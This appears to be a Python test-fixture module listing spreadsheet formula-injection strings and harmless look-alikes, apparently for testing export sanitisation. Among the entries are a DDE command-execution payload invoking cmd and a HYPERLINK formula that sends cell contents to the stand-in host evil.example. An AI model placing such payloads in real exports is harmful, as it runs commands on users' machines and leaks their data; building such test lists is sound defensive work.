"""Texts that spreadsheets run, or might, and texts that look like them; the same for every export."""

from __future__ import annotations

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "|calc",
    "%0A=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "﹢1+1",
    "﹣1+1",
    "−1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n\t ＝1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x0b=1+1",
    "'=1+1",
    "''=1+1",
    "-",
    "=",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
]
HARMLESS = ["a=b", "1-1", "a", "e@example.org", "'quoted'", '"=1"', "100%", "名＝値", "(-1)", "'"]
